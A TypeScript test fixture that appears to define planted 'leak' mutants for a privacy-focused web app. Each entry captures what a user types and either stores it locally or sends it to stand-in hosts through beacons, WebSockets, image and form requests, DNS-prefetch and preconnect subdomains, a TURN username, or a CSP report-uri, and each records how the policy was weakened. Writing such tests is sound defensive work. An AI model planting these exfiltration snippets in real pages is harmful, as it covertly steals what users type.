import type { ResponseHeaders } from '../../src/core/privacy/policy.ts';
import type { Plant } from './plant.ts';
import { nameOf } from './network-words.ts';

/** A mutant of the app: what a person says gets somewhere it must not. */
export type Leak = {
	readonly name: string;
	/** How the policy has to be weakened for it to leak at all; empty where no policy stands against it. */
	readonly weakened: {
		/** In headers, pages and scripts alike. */
		readonly replaced?: readonly (readonly [from: string, to: string])[];
		readonly headers?: ResponseHeaders;
	};
	readonly plant: Plant;
	readonly caughtIn: 'traffic' | 'profile';
};

/** Where network leaks lead; each has a name of its own, as channels have. */
const host = (number: number): string => nameOf(900 + number);

/** Without it, only Content-Security-Policy stands in the way. */
const NO_ALLOWLIST = { 'Connection-Allowlist': '' };

/** The directive of the pages' policy that must allow all hosts. */
const allow = (directive: string, was: string) =>
	[[`${directive} ${was}`, `${directive} ${was === "'none'" ? '*' : `${was} *`}`]] as const;

/** `code` runs with `words`, what is in the box when Enter is pressed. */
const atEnter = (code: string): Plant => ({
	page: `addEventListener('keydown', ({ key, target }) => {
		if (key !== 'Enter' || target.role !== 'textbox') return;
		const words = target.innerText.trim();
		void (async () => { ${code} })();
	}, { capture: true });`,
	...WITHOUT_SERVICE_WORKER,
});

/** These leak with a service worker and an encoder and without; without, a visit is short. */
const WITHOUT_SERVICE_WORKER = { without: /service-worker\.js$|\.onnx$|\.wasm$/ };

const CONNECT = [
	["connect-src 'none'", 'connect-src *'],
	["connect-src 'self'", 'connect-src *'],
] as const;

const kept = (name: string, code: string): Leak => ({
	name,
	weakened: {},
	plant: atEnter(code),
	caughtIn: 'profile',
});

const sent = (name: string, weakened: Leak['weakened'], code: string): Leak => ({
	name,
	weakened,
	plant: atEnter(code),
	caughtIn: 'traffic',
});

export const LEAKS: readonly Leak[] = [
	kept('the title', 'document.title = words;'),
	kept('the fragment of the address', 'location.hash = words;'),
	kept('the query of the address', `history.replaceState(null, '', '?' + new URLSearchParams({ words }));`),
	kept('the state of the history', `history.replaceState({ words }, '');`),
	kept('localStorage', 'localStorage.setItem("draft", words);'),
	kept('sessionStorage', 'sessionStorage.setItem("draft", words);'),
	// On disk it is locked with a key that lies beside it; the own host is given it with the next request.
	sent(
		'a cookie',
		{},
		"document.cookie = `draft=${encodeURIComponent(words)}`; new Image().src = '/icons/icon.svg?1';",
	),
	kept(
		'a note in clear in IndexedDB',
		`const asked = indexedDB.open('notes', 1);
		asked.onupgradeneeded = () => asked.result.createObjectStore('notes', { autoIncrement: true });
		asked.onsuccess = () => asked.result.transaction('notes', 'readwrite').objectStore('notes').add({ words });`,
	),
	kept(
		'a note in IndexedDB that only looks sealed',
		`const asked = indexedDB.open('sealed', 1);
		asked.onupgradeneeded = () => asked.result.createObjectStore('sealed', { autoIncrement: true });
		asked.onsuccess = () => asked.result.transaction('sealed', 'readwrite').objectStore('sealed').add(btoa(words));`,
	),
	kept('the Cache API', `await (await caches.open('drafts')).put('/draft', new Response(words));`),
	kept(
		'a file of the origin, backwards',
		`const file = await (await navigator.storage.getDirectory()).getFileHandle('draft', { create: true });
		const writer = await file.createWritable();
		await writer.write([...words].reverse().join(''));
		await writer.close();`,
	),
	{
		name: 'a textarea in the place of the box',
		weakened: {},
		caughtIn: 'profile',
		plant: {
			page: `const wait = setInterval(() => {
				const box = document.querySelector('[role="textbox"]');
				if (box === null) return;
				clearInterval(wait);
				const area = document.createElement('textarea');
				area.name = 'said';
				area.setAttribute('role', 'textbox');
				box.before(area);
				box.remove();
			}, 50);`,
			...WITHOUT_SERVICE_WORKER,
		},
	},
	sent('a picture of the own host', {}, `new Image().src = '/icons/seen.png?' + encodeURIComponent(words);`),
	sent(
		'a script of the own host',
		{},
		`await import('/assets/seen.js?' + encodeURIComponent(words)).catch(() => {});`,
	),
	sent(
		'a request to the own host, in hexadecimal',
		{ replaced: [["connect-src 'none'", "connect-src 'self'"]] },
		`await fetch('/seen?' + [...new TextEncoder().encode(words)].map((byte) => byte.toString(16).padStart(2, '0')).join(''));`,
	),
	{
		name: 'the service worker, told by the page',
		weakened: {},
		caughtIn: 'traffic',
		plant: {
			page: atEnter('navigator.serviceWorker.controller.postMessage({ planted: words });').page ?? '',
			serviceWorker: `self.addEventListener('message', ({ data }) => {
				if (data.planted) void fetch('/seen?' + encodeURIComponent(data.planted)).catch(() => {});
			});`,
		},
	},
	sent(
		'a beacon',
		{ replaced: CONNECT, headers: NO_ALLOWLIST },
		`navigator.sendBeacon('http://${host(1)}/', words);`,
	),
	sent(
		'a compressed body under TLS',
		{ replaced: CONNECT, headers: NO_ALLOWLIST },
		`const body = await new Response(new Blob([words]).stream().pipeThrough(new CompressionStream('gzip'))).blob();
		await fetch('https://${host(2)}/', { method: 'POST', mode: 'no-cors', body });`,
	),
	sent(
		'a web socket',
		{ replaced: CONNECT, headers: NO_ALLOWLIST },
		`const socket = new WebSocket('ws://${host(3)}/'); socket.onopen = () => socket.send(words);`,
	),
	sent(
		'a picture of another host',
		{ replaced: allow('img-src', "'self' data: blob:"), headers: NO_ALLOWLIST },
		`new Image().src = 'http://${host(4)}/?' + new URLSearchParams({ words });`,
	),
	sent(
		'a form',
		{ replaced: allow('form-action', "'none'"), headers: NO_ALLOWLIST },
		`const form = document.createElement('form');
		Object.assign(form, { action: 'http://${host(5)}/', method: 'POST', target: '_blank' });
		const field = document.createElement('input');
		Object.assign(field, { name: 'words', value: words });
		form.append(field); document.body.append(form); form.submit();`,
	),
	sent(
		'a name that is looked up',
		{ headers: { ...NO_ALLOWLIST, 'X-DNS-Prefetch-Control': '' } },
		`const link = document.createElement('link'); link.rel = 'dns-prefetch';
		link.href = '//' + words.split(' ')[0] + '.${host(6)}'; document.head.append(link);`,
	),
	sent(
		'a connection that is begun early',
		{ headers: NO_ALLOWLIST },
		`const link = document.createElement('link'); link.rel = 'preconnect';
		link.href = 'http://' + words.split(' ')[0] + '.${host(7)}'; document.head.append(link);`,
	),
	sent(
		'the name of a user of a TURN server',
		{ headers: NO_ALLOWLIST },
		`const peer = new RTCPeerConnection({ iceServers: [{
			urls: 'turn:' + words.split(' ')[0] + '.${host(8)}:80?transport=tcp', username: words, credential: words }] });
		peer.createDataChannel('words');
		await peer.setLocalDescription(await peer.createOffer());`,
	),
	sent(
		'another window',
		{ headers: NO_ALLOWLIST },
		`open('http://${host(9)}/?' + new URLSearchParams({ words }));`,
	),
	sent(
		'leaving the page',
		{ headers: NO_ALLOWLIST },
		`location.href = 'http://${host(10)}/?' + btoa(words);`,
	),
	sent(
		'the policy itself, that reports what it refused',
		{
			replaced: [
				[
					'trusted-types svelte-trusted-html app',
					`trusted-types svelte-trusted-html app; report-uri http://${host(11)}/`,
				],
			],
			headers: NO_ALLOWLIST,
		},
		`try { document.createElement('p').innerHTML = words; } catch {}`,
	),
	// The last, so that it stays in front, with the words in its box: a spelling is asked for when somebody pauses.
	{
		name: 'spell check',
		weakened: {},
		caughtIn: 'traffic',
		plant: {
			page: `setInterval(() => {
				for (const one of document.querySelectorAll('[spellcheck]')) one.spellcheck = true;
			}, 50);
			addEventListener('keydown', (event) => event.key === 'Enter' && event.stopImmediatePropagation(), { capture: true });`,
			...WITHOUT_SERVICE_WORKER,
		},
	},
];
